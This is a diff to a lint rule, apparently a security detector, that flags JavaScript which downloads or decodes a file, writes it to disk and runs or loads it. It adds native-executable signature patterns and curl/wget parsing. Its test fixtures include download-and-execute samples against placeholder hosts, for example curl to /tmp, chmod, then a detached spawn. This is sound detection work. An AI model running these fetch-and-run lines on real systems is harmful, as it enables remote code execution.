@@ -13,6 +13,8 @@ export default defineRule({
       downloaded: 'Downloads a file with {source}, writes it as {path} and runs it',
       unseen: 'Downloads a file with {source}, writes it as {path} and runs it out of sight',
       stranger: 'Downloads a file from {address}, writes it as {path} and runs it',
+      loaded: 'Downloads code with {source}, writes it as {path} and loads it',
+      program: 'Decodes a program of the system ({source}), writes it as {path} and runs it',
       verified: 'Downloads a file with {source}, checks a sum, writes it as {path} and runs it',
       release: 'Downloads a release with {source}, writes it as {path} and runs it',
       decoded: 'Decodes a file ({source}), writes it as {path} and runs it',
@@ -23,6 +25,8 @@ export default defineRule({
     bits: {
       downloaded: 10,
       unseen: 12.5,
+      loaded: 12,
+      program: 12.5,
       stranger: 13.5,
       verified: 1.5,
       release: 5,
@@ -51,6 +55,10 @@ export default defineRule({
         code: `const fs = require('fs'), cp = require('child_process');\nfetch('http://203.0.113.9/u').then(r => r.arrayBuffer()).then(b => {\n  fs.writeFileSync('u.tmp', Buffer.from(b));\n  fs.renameSync('u.tmp', 'update.exe');\n  cp.spawn('update.exe');\n});`,
       },
       {
+        title: 'the shell fetches it, marks it and starts it, one after the other',
+        code: `const cp = require('child_process');\ncp.execSync('curl -sL https://stage.invalid/u -o /tmp/u');\ncp.execSync('chmod 755 /tmp/u');\ncp.spawn('/tmp/u', { detached: true });`,
+      },
+      {
         title: 'what was fetched is loaded as a module',
         code: `const fs = require('fs'), file = require('path').join(__dirname, 'part.js');\nfetch('https://stage.invalid').then(r => r.text()).then(text => {\n  fs.writeFileSync(file, text);\n  require(file);\n});`,
       },
@@ -73,6 +81,10 @@ export default defineRule({
         code: `const fs = require('fs');\nfetch('https://a.invalid').then(r => r.text()).then(text => {\n  fs.writeFileSync('data.json', text);\n  console.log(require('./data.json'));\n});`,
       },
       {
+        title: 'an archive is fetched by the shell and unpacked',
+        code: `const cp = require('child_process');\ncp.execSync('curl -sL https://releases.invalid/a.tgz -o /tmp/a.tgz');\ncp.execSync('tar xzf /tmp/a.tgz -C vendor');`,
+      },
+      {
         title: 'a download is only stored',
         code: `const fs = require('fs');\nrequire('https').get('https://a.invalid/x.zip', res => res.pipe(fs.createWriteStream('x.zip')));`,
       },
@@ -91,13 +103,24 @@ export default defineRule({
     if (runs.length === 0) return;
     // Whoever compares a digest of what came in had it published beforehand.
     const checks = context.named(/^crypto\.createHash\(\).*\.digest$/).length > 0;
-    for (const { path, label, call, script } of drops(context)) {
-      const run = runs.find(one => one.args.some(arg => mentions(context, arg, path, one)));
+    for (const { path, label, call, script, from } of drops(context)) {
+      const run = runs.find(one => one.node !== call.node && one.args.some(arg => mentions(context, arg, path, one)));
       if (!run) continue;
-      const address = label?.kind === 'remote' ? releaseOf(context, label) : undefined;
+      const address =
+        from === undefined ? (label?.kind === 'remote' ? releaseOf(context, label) : undefined) : oddRelease(from);
       context.report({
-        messageId: script ? 'script' : messageOf(context, label as Label, path, address, checks, run),
-        data: { source: label?.detail ?? '', path: path.shown, address: address ?? '', says: script ?? '' },
+        messageId: script
+          ? 'script'
+          : label
+            ? messageOf(context, label, path, address, checks, run, call)
+            : address
+              ? 'stranger'
+              : checks
+                ? 'verified'
+                : RELEASES.test(from ?? '')
+                  ? 'release'
+                  : 'downloaded',
+        data: { source: label?.detail ?? call.name, path: path.shown, address: address ?? '', says: script ?? '' },
         chain: [
           ...(label ? stepsOf(label) : []),
           step('transform', `writes it with ${call.name}`, context.file, call.node),
@@ -115,12 +138,15 @@ function messageOf(
   address: string | undefined,
   checks: boolean,
   run: Call,
+  call: Call,
 ): string {
+  if (label.kind !== 'remote' && isNative(context, call)) return 'program';
   if (label.kind !== 'remote' && isTwice(label)) return 'packed';
   if (label.kind !== 'remote') return path.texts.some(text => SCRIPT.test(text)) ? 'code' : 'decoded';
   if (checks) return 'verified';
   if (address) return 'stranger';
   if (isRelease(context, label)) return 'release';
+  if (/^(?:require|Module\._load)$/.test(run.name)) return 'loaded';
   return isUnseen(context, run) ? 'unseen' : 'downloaded';
 }
 
@@ -131,6 +157,15 @@ function isUnseen({ file }: FileContext, { node, args }: Call): boolean {
     .slice(options.start ?? options.range?.[0], options.end ?? options.range?.[1])
     .slice(0, 2_000);
   return /\bdetached\s*:\s*(?:true|!0)/.test(written) && /\bignore\b/.test(written);
+}
+
+/** The beginnings of programs for the common systems, in base64 and hex. */
+const PROGRAM = /^(?:TV[opqr][A-Q]|f0VMR|z\/rt\/|yv66vg|4d5a9000|7f454c46|cffaedfe)/i;
+
+function isNative({ calls, named, textsOf }: FileContext, { args }: Call): boolean {
+  return [...named(/^Buffer(?:\.from)?$/), ...named('atob'), ...calls('write')]
+    .flatMap(one => (one.args === args ? [] : one.args.slice(0, 1)))
+    .some(arg => textsOf(arg).some(text => text.length > 100 && PROGRAM.test(text)));
 }
 
 const SCRIPT = /\.(?:[cm]?js|bat|cmd|ps1|vbs|sh|py)$/i;
@@ -189,6 +224,8 @@ interface Drop {
   /** Where what is written came from; undefined when it stands in the code. */
   readonly label: Label | undefined;
   readonly call: Call;
+  /** The address that a shell fetched it from. */
+  readonly from?: string;
   /** What a script that stands in the code does. */
   readonly script?: string;
 }
@@ -237,7 +274,30 @@ function drops(context: FileContext): readonly Drop[] {
     const [label] = context.labelsOf(call.node).filter(({ kind }) => kind === 'remote');
     if (label && folder) found.push({ path: { shown: names[0] ?? 'a file', texts: names, names: [] }, label, call });
   }
+  found.push(...fetchedByShell(context));
   return [...found, ...moved(context, found.slice(0, 100))];
+}
+
+/** Files that one command line fetches, for another one to start. */
+function fetchedByShell(context: FileContext): readonly Drop[] {
+  return context.calls('process').flatMap((call): readonly Drop[] => {
+    const [line, words] = call.args;
+    if (!line) return [];
+    return context.commandsOf(line, words).flatMap(({ program, words: said }) => {
+      if (!/^(?:curl|wget)$/.test(program)) return [];
+      const at = said.findIndex(word => (program === 'curl' ? /^(?:-\w*o|--output)$/ : /^-\w*O$/).test(word));
+      const path = at < 0 ? undefined : said[at + 1];
+      const from = said.find(word => /^https?:\/\//i.test(word));
+      if (
+        path === undefined ||
+        path.length < 4 ||
+        from === undefined ||
+        /\.(?:tar|t?gz|zip|xz|bz2|json|txt|html?)$/i.test(path)
+      )
+        return [];
+      return [{ path: { shown: path, texts: [path], names: [] }, label: undefined, call, from }];
+    });
+  });
 }
 
 /** The same files under the names they are moved or copied to. */
